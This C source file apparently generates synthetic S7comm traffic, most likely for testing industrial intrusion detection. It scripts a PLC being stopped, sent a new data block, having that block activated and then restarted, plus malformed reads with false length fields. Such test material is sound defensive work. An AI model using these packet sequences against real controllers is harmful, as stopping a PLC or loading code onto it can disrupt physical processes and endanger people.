/* SPDX-License-Identifier: BSD-3-Clause */
/* The incident on S7: the laptop stops the CPU, loads a data block, activates it, starts the CPU.
 */
#include "incident.h"
#include "s7.h"

enum {
    S7_REQUEST_DOWNLOAD = 0x1a,
    S7_DOWNLOAD_BLOCK = 0x1b,
    S7_DOWNLOAD_ENDED = 0x1c,
    S7_PI_SERVICE = 0x28,
    S7_PLC_STOP = 0x29,
    TSAP_PG_SLOT2 = 0x0102,
    BLOCK_SIZE = 560,
    BLOCK_PART = 200,
    N_PARTS = (BLOCK_SIZE + BLOCK_PART - 1) / BLOCK_PART,
    FIRST_PART_PAIR = 4, /* of the script below */
};

static const char block_name[] = "_0A00001P"; /* DB 1, into the passive file system */

static void ask_stop(struct ft_conv *conv, struct ft_turn *turn)
{
    size_t at = ft_s7_begin(turn->out, FT_S7_JOB, (uint16_t)turn->pair);

    (void)conv;
    ft_buf_u8(turn->out, S7_PLC_STOP);
    ft_buf_fill(turn->out, 0, 5);
    ft_buf_str8(turn->out, "P_PROGRAM");
    ft_s7_end_parameter(turn->out, at);
    ft_s7_end(turn->out, at);
}

static void answer_stop(struct ft_conv *conv, struct ft_turn *turn)
{
    static const uint8_t parameter[] = {S7_PLC_STOP};

    (void)conv;
    ft_s7_bare(turn->out, FT_S7_ACK_DATA, (uint16_t)turn->pair, parameter, sizeof(parameter));
}

/* Function, status and file name: what requests of a download have in common. */
static void put_file(struct ft_buf *b, uint8_t function)
{
    ft_buf_u8(b, function);
    ft_buf_u8(b, 0);
    ft_buf_be16(b, function == S7_DOWNLOAD_ENDED ? 0 : 0x0100); /* an error code when it ended */
    ft_buf_u8(b, 0);
    ft_buf_fill(b, 0, 3);
    ft_buf_str8(b, block_name);
}

static void ask_download(struct ft_conv *conv, struct ft_turn *turn)
{
    size_t at = ft_s7_begin(turn->out, FT_S7_JOB, (uint16_t)turn->pair);

    (void)conv;
    put_file(turn->out, S7_REQUEST_DOWNLOAD);
    ft_buf_str8(turn->out, "1000560000482"); /* load memory and code, decimal */
    ft_s7_end_parameter(turn->out, at);
    ft_s7_end(turn->out, at);
}

static void answer_download(struct ft_conv *conv, struct ft_turn *turn)
{
    static const uint8_t parameter[] = {S7_REQUEST_DOWNLOAD};

    (void)conv;
    ft_s7_bare(turn->out, FT_S7_ACK_DATA, (uint16_t)turn->pair, parameter, sizeof(parameter));
}

/* Header of a data block as it lies in the load memory, then its content. */
static void put_block_part(struct ft_buf *b, uint32_t part)
{
    static const uint8_t header[] = {
        0x70, 0x70, 0x01, 0x01, 0x05, 0x0a, 0x00, 0x01, /* DB language, DB, number 1 */
        0x00, 0x00, 0x02, 0x30, 0x00, 0x00, 0x00, 0x00, /* load size 560, no protection */
        0x01, 0x2f, 0x5a, 0x10, 0x3a, 0x4c,             /* time of the code */
    };
    size_t len = part == N_PARTS - 1 ? BLOCK_SIZE - BLOCK_PART * (N_PARTS - 1) : BLOCK_PART;

    ft_buf_be16(b, (unsigned)len);
    ft_buf_be16(b, 0x00fb);
    if (part == 0)
        ft_buf_bytes(b, header, sizeof(header));
    for (size_t i = part == 0 ? sizeof(header) : 0; i < len; i++)
        ft_buf_u8(b, (unsigned)(part * 31 + i));
}

/* The PLC fetches the parts: it asks, the laptop answers. */
static void ask_part(struct ft_conv *conv, struct ft_turn *turn)
{
    size_t at = ft_s7_begin(turn->out, FT_S7_JOB, (uint16_t)(0x4000 + turn->pair));

    (void)conv;
    turn->from_server = true;
    put_file(turn->out, S7_DOWNLOAD_BLOCK);
    ft_s7_end_parameter(turn->out, at);
    ft_s7_end(turn->out, at);
}

static void answer_part(struct ft_conv *conv, struct ft_turn *turn)
{
    uint32_t part = turn->pair - FIRST_PART_PAIR;
    size_t at = ft_s7_begin(turn->out, FT_S7_ACK_DATA, (uint16_t)(0x4000 + turn->pair));

    (void)conv;
    turn->from_server = false;
    ft_buf_u8(turn->out, S7_DOWNLOAD_BLOCK);
    ft_buf_u8(turn->out, part < N_PARTS - 1); /* more follows */
    ft_s7_end_parameter(turn->out, at);
    put_block_part(turn->out, part);
    ft_s7_end(turn->out, at);
}

static void ask_ended(struct ft_conv *conv, struct ft_turn *turn)
{
    size_t at = ft_s7_begin(turn->out, FT_S7_JOB, (uint16_t)(0x4000 + turn->pair));

    (void)conv;
    turn->from_server = true;
    put_file(turn->out, S7_DOWNLOAD_ENDED);
    ft_s7_end_parameter(turn->out, at);
    ft_s7_end(turn->out, at);
}

static void answer_ended(struct ft_conv *conv, struct ft_turn *turn)
{
    static const uint8_t parameter[] = {S7_DOWNLOAD_ENDED};

    (void)conv;
    turn->from_server = false;
    ft_s7_bare(turn->out, FT_S7_ACK_DATA, (uint16_t)(0x4000 + turn->pair), parameter,
               sizeof(parameter));
}

static void put_program_invocation(struct ft_turn *turn, const char *argument, size_t argument_len,
                                   const char *service)
{
    size_t at = ft_s7_begin(turn->out, FT_S7_JOB, (uint16_t)turn->pair);

    ft_buf_u8(turn->out, S7_PI_SERVICE);
    ft_buf_fill(turn->out, 0, 6);
    ft_buf_u8(turn->out, 0xfd);
    ft_buf_be16(turn->out, (unsigned)argument_len);
    ft_buf_bytes(turn->out, argument, argument_len);
    ft_buf_str8(turn->out, service);
    ft_s7_end_parameter(turn->out, at);
    ft_s7_end(turn->out, at);
}

static void ask_activate(struct ft_conv *conv, struct ft_turn *turn)
{
    (void)conv;
    put_program_invocation(turn, "\x01\0000A00001P", 10, "_INSE");
}

static void ask_start(struct ft_conv *conv, struct ft_turn *turn)
{
    (void)conv;
    put_program_invocation(turn, "", 0, "P_PROGRAM");
}

static void answer_invocation(struct ft_conv *conv, struct ft_turn *turn)
{
    static const uint8_t parameter[] = {S7_PI_SERVICE};

    (void)conv;
    ft_s7_bare(turn->out, FT_S7_ACK_DATA, (uint16_t)turn->pair, parameter, sizeof(parameter));
}

static void setup(struct ft_conv *conv, struct ft_turn *turn)
{
    (void)conv;
    ft_s7_setup_talk(turn, TSAP_PG_SLOT2, turn->pair);
}

static void talk_attack(struct ft_conv *conv, struct ft_turn *turn)
{
    static const struct ft_exchange script[] = {
        {setup, setup},
        {setup, setup},
        {ask_stop, answer_stop},
        {ask_download, answer_download},
        {ask_part, answer_part}, /* FIRST_PART_PAIR, N_PARTS times */
        {ask_part, answer_part},
        {ask_part, answer_part},
        {ask_ended, answer_ended},
        {ask_activate, answer_invocation},
        {ask_start, answer_invocation},
    };

    ft_conv_play(conv, turn, script, sizeof(script) / sizeof(script[0]), turn->pair);
}

/* A read whose parameter claims 80 octets where 14 are. */
static void ask_bad_length(struct ft_conv *conv, struct ft_turn *turn)
{
    static const uint8_t read_db[] = {0x04, 0x01, 0x12, 0x0a, 0x10, 0x02, 0x00,
                                      0x10, 0x00, 0x01, 0x84, 0x00, 0x00, 0x00};
    size_t parameter_len_at = turn->out->len + 7 + 6;

    (void)conv;
    ft_s7_bare(turn->out, FT_S7_JOB, (uint16_t)turn->pair, read_db, sizeof(read_db));
    ft_store_be16(turn->out->data + parameter_len_at, 80);
}

/* An item that claims to be longer than the PDU. */
static void ask_bad_item(struct ft_conv *conv, struct ft_turn *turn)
{
    static const uint8_t read_db[] = {0x04, 0x02, 0x12, 0xf0, 0x10, 0x02, 0x00,
                                      0x10, 0x00, 0x01, 0x84, 0x00, 0x00, 0x00};

    (void)conv;
    ft_s7_bare(turn->out, FT_S7_JOB, (uint16_t)turn->pair, read_db, sizeof(read_db));
}

static void talk_malformed(struct ft_conv *conv, struct ft_turn *turn)
{
    static const struct ft_exchange script[] = {
        {setup, setup}, {setup, setup}, {ask_bad_length, NULL}, {ask_bad_item, NULL}};

    ft_conv_play(conv, turn, script, sizeof(script) / sizeof(script[0]), turn->pair);
}

const struct ft_conv_kind ft_attack_s7 = {.talk = talk_attack, .port = 102, .latency_us = 9000};
const struct ft_conv_kind ft_attack_s7_malformed = {
    .talk = talk_malformed, .port = 102, .latency_us = 9000};
